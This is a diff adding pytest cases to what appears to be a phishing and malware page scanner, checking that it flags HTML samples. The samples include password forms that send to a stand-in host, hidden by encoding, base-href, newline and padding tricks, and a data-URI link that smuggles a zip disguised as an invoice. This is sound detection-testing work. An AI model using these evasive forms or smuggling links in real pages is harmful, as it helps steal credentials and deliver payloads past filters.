@@ -5,10 +5,13 @@ import time
 
 import pytest
 
-from lazaretto.engines.scripts import markup
+from lazaretto.engines.scripts import Scripts, markup
 from lazaretto.engines.scripts.signs import Signs
 from lazaretto.engines.scripts.weights import load
 from lazaretto.scripting.analysis import analysed
+from lazaretto.testing import artifact
+
+ENGINE = Scripts(Scripts.Settings())
 
 
 def seen(page: str) -> set[str]:
@@ -45,3 +48,33 @@ def test_linear(page: str) -> None:
     began = time.process_time()
     seen(page)
     assert time.process_time() - began < 5
+
+
+@pytest.mark.parametrize(
+    "form",
+    [
+        '<form><input type=password><button formaction="https://example.invalid/p">x</button></form>',
+        '<base href="https://example.invalid/"><form action="p.php"><input type=password></form>',
+        '<form action="&#104;ttps://example.invalid/p"><input type="&#112;assword"></form>',
+        '<form action="\\\\example.invalid\\p"><input type="password"></form>',
+        '<form action="ht\ntps://example.invalid/p"><input type="password"></form>',
+        f'<form x="{"a" * 3000}" action="https://example.invalid/p"><input y="{"b" * 900}" type=password></form>',
+        '<iframe srcdoc="&lt;form action=https://example.invalid/&gt;&lt;input type=password&gt;"></iframe>',
+    ],
+)
+def test_forms_that_hide_where_they_lead(form: str) -> None:
+    one = artifact(f"<html><body>{form}</body></html>".encode(), name="a.html")
+    assert [each.name for each in ENGINE.inspect(one)] == ["script.page.suspicious"]
+
+
+def test_a_link_that_carries_its_file() -> None:
+    link = f'<a href="data:application/zip;base64,{"UEsDBBQA" * 90}" download="invoice.zip">Open</a>'
+    one = artifact(f"<html><body>{link}</body></html>".encode(), name="a.html")
+    assert [each.name for each in ENGINE.inspect(one)] == ["script.page.malicious"]
+
+
+def test_a_report_that_saves_its_table() -> None:
+    code = "b=new Blob([csv()]);a.href=URL.createObjectURL(b);a.download='report.csv';a.click()"
+    picture = f'<img src="data:image/png;base64,{"iVBORw0K" * 90}">'
+    one = artifact(f"<html><body>{picture}<script>{code}</script></body></html>".encode(), name="a.html")
+    assert [each.name for each in ENGINE.inspect(one)] == ["script.page.present"]
